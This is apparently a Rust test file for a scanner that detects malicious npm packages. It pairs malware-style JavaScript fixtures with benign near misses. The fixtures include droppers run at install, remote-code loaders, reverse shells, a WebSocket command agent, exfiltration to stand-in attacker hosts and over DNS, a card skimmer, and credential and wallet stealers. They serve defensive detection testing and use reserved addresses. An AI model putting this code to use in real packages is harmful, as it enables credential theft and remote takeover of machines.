//! How the JavaScript walk follows data: responses through `await` and helper
//! functions, sockets into commands, modules loaded through wrappers, decoders of more
//! than one statement, bare host names. Each shape has a fixture written the way
//! malware of its technique is written and a near miss from honest code. Reserved
//! names and TEST-NET addresses only.

use crate::common::Fixture;
use dsca_model::Severity;
use serde_json::json;

fn with_main(files: &[(&str, &str)]) -> Fixture {
    let mut fixture =
        Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}));
    for (path, text) in files {
        fixture = fixture.file(path, text.as_bytes());
    }
    fixture
}

fn strongest(fixture: &Fixture, rule: &str) -> Option<Severity> {
    fixture.code_findings(rule).iter().map(|f| f.severity).max()
}

// Download and execute (DSCA802) written with async/await.

const AWAIT_DROPPER: &str = r#"import { writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawn } from 'node:child_process';
const base = Buffer.from('aHR0cDovLzIwMy4wLjExMy45L3Mv', 'base64').toString();
async function run() {
  const res = await fetch(base + 'lin.sh');
  const file = join(tmpdir(), 'cache-' + process.pid + '.sh');
  await writeFile(file, Buffer.from(await res.arrayBuffer()));
  await chmod(file, 0o755);
  spawn('/bin/sh', [file], { detached: true, stdio: 'ignore' }).unref();
}
run();
"#;

#[test]
fn an_awaited_download_written_to_tmp_and_run_at_install_is_high() {
    let fixture = Fixture::with_postinstall("node setup.mjs", &[("setup.mjs", AWAIT_DROPPER)]);
    assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::High));
}

#[test]
fn an_installer_fetching_its_binary_from_its_vendor_into_its_folder_is_medium() {
    // The esbuild shape: a named vendor host, the package's own folder, a version check.
    let installer = r#"const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
async function install() {
  const res = await fetch('https://registry.vendor.example/@demo/linux-x64/-/linux-x64-1.0.0.tgz');
  const bin = path.join(__dirname, 'bin', 'demo');
  fs.writeFileSync(bin, Buffer.from(await res.arrayBuffer()));
  fs.chmodSync(bin, 0o755);
  execFileSync(bin, ['--version']);
}
install();
"#;
    let fixture = Fixture::with_postinstall("node install.js", &[("install.js", installer)]);
    assert!(strongest(&fixture, "DSCA802") <= Some(Severity::Medium));
}

// Helpers that fetch or decode carry their data to the caller.

#[test]
fn code_fetched_by_a_helper_function_and_evaluated_is_critical() {
    let loader = r#"const https = require('https');
function fetchText(url, cb) {
  https.get(url, (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => cb(null, b)); });
}
fetchText('https://cfg.attacker.example/p', (err, code) => {
  if (!err) new Function('require', code)(require);
});
"#;
    let fixture = with_main(&[
        ("index.js", "require('./lib/pool');\n"),
        ("lib/pool.js", loader),
    ]);
    assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::Critical));
}

#[test]
fn a_base64_and_xor_decoder_feeding_new_function_is_decode_eval() {
    let code = r#"const _k = 'k3y';
function _u(b, k) {
  const buf = Buffer.from(b, 'base64');
  for (let i = 0; i < buf.length; i++) buf[i] ^= k.charCodeAt(i % k.length);
  return buf.toString('utf8');
}
const f = new Function('require', _u('AAECAwQF', _k));
f(require);
"#;
    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA803"), Some(Severity::Critical));
}

#[test]
fn a_template_engine_compiling_with_new_function_is_not_decode_eval() {
    let code = r#"function compile(tpl) {
  const body = 'return `' + tpl.replace(/`/g, '\\`') + '`;';
  return new Function('data', body);
}
module.exports = compile;
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA803"), None);
}

// Sockets into commands (DSCA804).

#[test]
fn commands_received_on_a_socket_loaded_from_main_are_critical() {
    let code = r#"const m = (s) => require(s.split('').reverse().join(''));
const n = m('ten');
const c = m('ssecorp_dlihc');
const client = n.connect({ host: '198.51.100.14', port: 443 });
client.on('data', (d) => {
  c.exec(d.toString().trim(), (err, out) => client.write(String(out)));
});
"#;
    let fixture = with_main(&[
        ("index.js", "require('./lib/compat');\n"),
        ("lib/compat.js", code),
    ]);
    assert_eq!(strongest(&fixture, "DSCA804"), Some(Severity::Critical));
}

#[test]
fn a_platform_chosen_shell_piped_to_a_socket_is_a_reverse_shell() {
    let code = r#"var net = require('net'), cp = require('child_process');
var sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
var client = new net.Socket();
client.connect(9001, '203.0.113.66', function () {
  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);
});
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA804"), Some(Severity::Critical));
}

#[test]
fn a_tcp_client_that_logs_what_it_receives_is_no_reverse_shell() {
    let code = r#"const net = require('net');
const { execSync } = require('child_process');
const version = execSync('git --version').toString();
const s = net.connect(6379, 'localhost');
s.on('data', (d) => { console.log('reply', d.toString(), version); });
module.exports = s;
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA804"), None);
}

#[test]
fn a_websocket_agent_that_runs_the_messages_it_gets_is_remote_control() {
    let code = r#"const WebSocket = require('ws');
const { exec } = require('child_process');
const sock = new WebSocket('wss://relay-sync.example/agent');
sock.on('open', () => sock.send(JSON.stringify({ id: require('os').hostname() })));
sock.on('message', (m) => exec(m.toString(), (e, out) => sock.send(String(out))));
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA804"), Some(Severity::Critical));
}

#[test]
fn a_websocket_client_that_reloads_on_a_message_is_no_remote_control() {
    // A live-reload client: the message picks what to do, it is never run.
    let code = r#"const WebSocket = require('ws');
const { spawnSync } = require('child_process');
const sock = new WebSocket('ws://localhost:35729/livereload');
sock.on('message', (m) => {
  const event = JSON.parse(m.toString());
  if (event.command === 'reload') spawnSync('npm', ['run', 'build'], { stdio: 'inherit' });
});
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA804"), None);
    assert_eq!(strongest(&fixture, "DSCA802"), None);
}

// A detached child of a hook runs at install time too.

#[test]
fn a_file_a_hook_starts_with_process_exec_path_runs_at_install() {
    let starter = r#"const { spawn } = require('child_process');
const path = require('path');
spawn(process.execPath, [path.join(__dirname, 'payload.js')], { detached: true, stdio: 'ignore' }).unref();
"#;
    let payload = r#"const net = require('net'); const os = require('os');
const s = new net.Socket();
s.connect(4444, '198.51.100.14', () => s.write(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, i: os.networkInterfaces() })));
"#;
    let fixture = Fixture::with_postinstall(
        "node lib/install.js",
        &[("lib/install.js", starter), ("lib/payload.js", payload)],
    );
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
}

// Host fingerprints and bare host names (DSCA801, DSCA806).

#[test]
fn a_fingerprint_sent_to_a_bare_oast_host_name_at_install_is_critical() {
    let code = r#"const https = require('https'); const os = require('os');
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, c: process.cwd() });
const req = https.request({ hostname: 'x7kq2m9d.oast.fun', path: '/', method: 'POST' });
req.write(data); req.end();
"#;
    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
    assert!(strongest(&fixture, "DSCA806") >= Some(Severity::Medium));
}

#[test]
fn an_installer_choosing_a_binary_by_platform_sends_no_fingerprint() {
    let code = r#"const https = require('https'); const os = require('os');
const url = `https://downloads.vendor.example/v1/demo-${os.platform()}-${os.arch()}.tgz`;
https.get(url, (res) => res.pipe(require('fs').createWriteStream('demo.tgz')));
"#;
    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA801"), None);
}

#[test]
fn files_loaded_by_inline_node_code_of_a_hook_run_at_install() {
    let code = r#"const https = require('https'); const os = require('os');
https.get('https://c.attacker.example/?h=' + os.hostname() + '&u=' + os.userInfo().username);
"#;
    let fixture = Fixture::with_postinstall(
        "node -e \"require('./lib/check')\"",
        &[("lib/check.js", code)],
    );
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
}

// Where data goes (DSCA806): an address hidden in an encoded string.

#[test]
fn a_beacon_to_an_address_hidden_in_base64_names_a_destination() {
    // "https://collect.attacker.example/c" in base64.
    let code = r#"const u = atob('aHR0cHM6Ly9jb2xsZWN0LmF0dGFja2VyLmV4YW1wbGUvYw==');
document.addEventListener('submit', (e) => {
  const d = new FormData(e.target);
  navigator.sendBeacon(u, JSON.stringify({ n: d.get('cardnumber'), c: d.get('cvc') }));
}, true);
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA806"), Some(Severity::Medium));
}

#[test]
fn a_beacon_to_a_plain_analytics_address_names_no_destination() {
    let code = r#"const u = 'https://analytics.vendor.example/collect';
window.addEventListener('pagehide', () => navigator.sendBeacon(u, JSON.stringify({ p: location.pathname })));
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA806"), None);
}

#[test]
fn a_helper_declared_after_its_caller_still_carries_the_download() {
    let loader = r#"main();
function main() {
  getConfig('https://cfg.attacker.example/p', (err, code) => { if (!err) eval(code); });
}
function getConfig(url, cb) {
  require('https').get(url, (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => cb(null, b)); });
}
"#;
    let fixture = Fixture::with_postinstall("node setup.js", &[("setup.js", loader)]);
    assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::Critical));
}

// CI runner memory scraping (THREATS: `/proc/<pid>/mem` of `Runner.Worker`).

#[test]
fn another_process_memory_read_at_install_and_sent_is_critical() {
    let scraper = r#"const fs = require('fs');
const https = require('https');
function dump(pid) {
  const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
  const buf = Buffer.alloc(4096);
  fs.readSync(fd, buf, 0, 4096, 0);
  return buf.toString('latin1');
}
const req = https.request({ host: 'collect.example', method: 'POST' });
req.end(dump(process.argv[2]));
"#;
    let fixture = Fixture::with_postinstall("node scrape.js", &[("scrape.js", scraper)]);
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
}

#[test]
fn a_process_monitor_reading_proc_stat_collects_no_secret() {
    // The pidusage shape: CPU and memory use of a child, read from /proc/<pid>/stat.
    let monitor = r#"const fs = require('fs');
const https = require('https');
function usage(pid) {
  const stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(' ');
  const mem = fs.readFileSync('/proc/meminfo', 'utf8');
  return { utime: stat[13], mem: mem.length };
}
https.request({ host: 'metrics.example', method: 'POST' }).end(JSON.stringify(usage(process.pid)));
"#;
    let fixture = with_main(&[("index.js", monitor)]);
    assert_eq!(strongest(&fixture, "DSCA801"), None);
    assert_eq!(strongest(&fixture, "DSCA807"), None);
}

// `require` reached through feature tests (THREATS: aliases and computed names).

#[test]
fn require_found_through_a_global_or_the_module_loader_still_loads_net_and_a_shell() {
    let hidden = r#";(function () {
  var g = typeof global !== 'undefined' ? global : this;
  var r = g['req' + 'uire'] || (process['main' + 'Module'] && process['main' + 'Module']['req' + 'uire'].bind(process['main' + 'Module']));
  if (typeof r !== 'function') r = module.constructor._load.bind(module.constructor);
  var n = r(['n', 'e', 't'].join(''));
  var c = r('chi' + 'ld_pro' + 'cess');
  var s = new n['Soc' + 'ket']();
  s.connect(4430, '203.0.113.88', function () {
    var p = c['sp' + 'awn']('/bin/' + 'sh', []);
    s.pipe(p.stdin);
    p.stdout.pipe(s);
  });
})();
"#;
    let fixture = with_main(&[("index.js", hidden)]);
    assert_eq!(strongest(&fixture, "DSCA804"), Some(Severity::Critical));
}

#[test]
fn a_umd_bundle_feature_testing_require_is_no_reverse_shell() {
    let umd = r#"var load = typeof require === 'function' ? require : null;
var fs = (load || function () { return null; })('fs');
var defaults = process.env.CONFIG_FILE || 'config.json';
module.exports = function read() { return fs && fs.readFileSync(defaults, 'utf8'); };
"#;
    let fixture = with_main(&[("index.js", umd)]);
    assert_eq!(strongest(&fixture, "DSCA804"), None);
    assert_eq!(strongest(&fixture, "DSCA805"), None);
}

// Strings moved into an array and handed out by an accessor (THREATS: `_0x` hex strings).

#[test]
fn modules_named_through_a_string_array_accessor_are_resolved() {
    let appended = r#"module.exports = function merge(a, b) { return Object.assign({}, a, b); };
;(function(){var _0x1b=['\x6f\x73','\x68\x74\x74\x70\x73','\x68\x6f\x73\x74\x6e\x61\x6d\x65','\x75\x73\x65\x72\x49\x6e\x66\x6f','\x6d\x2e\x65\x78\x61\x6d\x70\x6c\x65'];
var _0x2c=function(i){i=i-0x2;var x=_0x1b[i];return x;};
var o=require(_0x2c(2)),h=require(_0x2c(3));
var d=Buffer.from(JSON.stringify({h:o[_0x2c(4)](),u:o[_0x2c(5)]().username,e:process.env})).toString('base64');
var q=h.request({hostname:_0x2c(6),method:'POST'});q.end(d);})();
"#;
    let fixture = with_main(&[("index.js", appended)]);
    assert!(strongest(&fixture, "DSCA801") >= Some(Severity::High));
}

#[test]
fn a_lookup_table_read_by_index_is_no_concealment() {
    let table = r#"const MONTHS = ['January', 'February', 'March', 'April'];
function monthName(i) { return MONTHS[i - 1]; }
const https = require('https');
module.exports = function report(n) {
  https.request({ hostname: 'api.example', method: 'POST' }).end(JSON.stringify({ month: monthName(1), n }));
};
"#;
    let fixture = with_main(&[("index.js", table)]);
    assert_eq!(strongest(&fixture, "DSCA801"), None);
    assert_eq!(strongest(&fixture, "DSCA805"), None);
}

// DNS tunnelling through a resolver instance (THREATS: DNS exfiltration).

#[test]
fn a_fingerprint_sent_through_a_dns_resolver_instance_at_install_is_critical() {
    let tunnel = r#"const { Resolver } = require('dns');
const os = require('os');
const r = new Resolver();
const label = Buffer.from(os.hostname() + ':' + os.userInfo().username).toString('hex');
r.resolve4(`${label}.t.collect.example`, () => {});
"#;
    let fixture = Fixture::with_postinstall("node probe.js", &[("probe.js", tunnel)]);
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
}

#[test]
fn a_health_check_resolving_a_configured_host_sends_nothing() {
    let check = r#"const { Resolver } = require('dns');
const r = new Resolver();
r.setServers(['192.0.2.53']);
module.exports = (host, cb) => r.resolve4(host, cb);
"#;
    let fixture = with_main(&[("index.js", check)]);
    assert_eq!(strongest(&fixture, "DSCA801"), None);
}

// A stealer's target list read in a loop (THREATS: browser logins, Discord, wallets).

#[test]
fn a_list_of_stealer_targets_read_and_posted_from_main_is_critical() {
    let stealer = r#"import os from 'node:os';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
const targets = ['AppData/Local/Google/Chrome/User Data/Default/Login Data',
  'AppData/Roaming/discord/Local Storage/leveldb/000005.ldb', 'AppData/Roaming/Exodus/exodus.wallet/seed.seco'];
async function run() {
  const form = new FormData();
  for (const t of targets) {
    try { form.append(t, new Blob([await readFile(join(os.homedir(), t))])); } catch {}
  }
  await fetch('https://assets.example/u', { method: 'POST', body: form });
}
run();
"#;
    let fixture = with_main(&[("index.js", stealer)]);
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
}

#[test]
fn an_http_client_with_a_cookies_route_collects_nothing() {
    // One stealer-looking name (a `/cookies` route) beside config reads and requests.
    let client = r#"const fs = require('fs');
const config = JSON.parse(fs.readFileSync('./client.json', 'utf8'));
module.exports = async function sync() {
  const res = await fetch(config.base + '/cookies', { method: 'POST', body: JSON.stringify(config.jar) });
  return res.json();
};
"#;
    let fixture = with_main(&[("index.js", client)]);
    assert_eq!(strongest(&fixture, "DSCA801"), None);
}

// A credential sweep in a child an ES module starts from its own folder at import.

#[test]
fn a_credential_sweep_in_a_worker_an_es_module_spawns_is_critical() {
    let starter = r#"import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import path from 'node:path';
const here = path.dirname(fileURLToPath(import.meta.url));
spawn(process.execPath, [path.join(here, 'worker.cjs')], { detached: true, stdio: 'ignore' }).unref();
"#;
    let worker = r#"const os = require('os'), fs = require('fs'), path = require('path'), https = require('https');
const targets = ['.npmrc', '.git-credentials', '.aws/credentials', '.kube/config'];
const out = {};
for (const t of targets) { try { out[t] = fs.readFileSync(path.join(os.homedir(), t), 'utf8'); } catch (e) {} }
https.request({ host: 'stats.example', method: 'POST' }).end(JSON.stringify(out));
"#;
    let fixture =
        Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.mjs"}))
            .file("index.mjs", starter.as_bytes())
            .file("worker.cjs", worker.as_bytes());
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
}

#[test]
fn a_cli_doctor_listing_credential_files_is_not_critical() {
    // A command the user runs checks which tools are configured and reports a count.
    let doctor = r#"#!/usr/bin/env node
const os = require('os'), fs = require('fs'), path = require('path'), https = require('https');
const files = ['.npmrc', '.git-credentials', '.aws/credentials', '.kube/config'];
const present = files.filter((f) => { try { fs.readFileSync(path.join(os.homedir(), f)); return true; } catch { return false; } });
https.request({ host: 'telemetry.example', method: 'POST' }).end(JSON.stringify({ configured: present.length }));
"#;
    let fixture = Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0",
        "bin": {"doctor": "bin/doctor.js"}}))
    .file("bin/doctor.js", doctor.as_bytes());
    assert!(strongest(&fixture, "DSCA801") < Some(Severity::Critical));
}

// Windows droppers run through a wrapper (THREATS: certutil, bitsadmin from a raw IP).

fn level(fixture: &Fixture) -> dsca_model::VerdictLevel {
    dsca_model::Verdict::from_findings(&fixture.analyse_code().findings).level
}

#[test]
fn certutil_fetching_an_exe_from_a_bare_address_at_install_is_malicious() {
    let dropper = r#"const cp = require('child_process'), path = require('path'), os = require('os');
const exe = path.join(os.tmpdir(), 'svc.exe');
const run = (c) => { try { cp.execSync(c, { stdio: 'ignore' }); return true; } catch (e) { return false; } };
if (run('certutil.exe -urlcache -split -f http://198.51.100.9/w/svc.exe "' + exe + '"')) run('"' + exe + '"');
"#;
    let fixture = Fixture::with_postinstall("node check.js", &[("check.js", dropper)]);
    assert_eq!(level(&fixture), dsca_model::VerdictLevel::Malicious);
    let hits = fixture.code_findings("DSCA809");
    let certutil = hits[0]
        .evidence
        .iter()
        .filter(|e| e.detail.contains("certutil"))
        .count();
    assert_eq!(certutil, 1, "one line, one reason: {hits:#?}");
}

#[test]
fn curl_fetching_a_vendor_binary_at_install_is_not_malicious() {
    let installer = r#"const { execSync } = require('child_process');
const url = 'https://downloads.vendor.example/tool/v1.2.0/tool-linux-x64';
execSync('curl -fsSL -o bin/tool ' + url);
execSync('chmod +x bin/tool');
"#;
    let fixture = Fixture::with_postinstall("node fetch.js", &[("fetch.js", installer)]);
    assert_ne!(level(&fixture), dsca_model::VerdictLevel::Malicious);
}

#[test]
fn one_credential_file_read_three_times_is_no_sweep() {
    // A registry client reads its own ~/.npmrc for three settings and calls the registry.
    let client = r#"const fs = require('fs'), os = require('os'), path = require('path');
const rc = () => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const registry = /registry=(.*)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));
const scope = /@scope:registry=(.*)/.exec(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));
module.exports = () => fetch((registry && registry[1]) || 'https://registry.npmjs.org/', { headers: { 'x-scope': String(scope), 'x-len': String(rc().length) } });
"#;
    let fixture = with_main(&[("index.js", client)]);
    assert!(strongest(&fixture, "DSCA801") < Some(Severity::Critical));
}
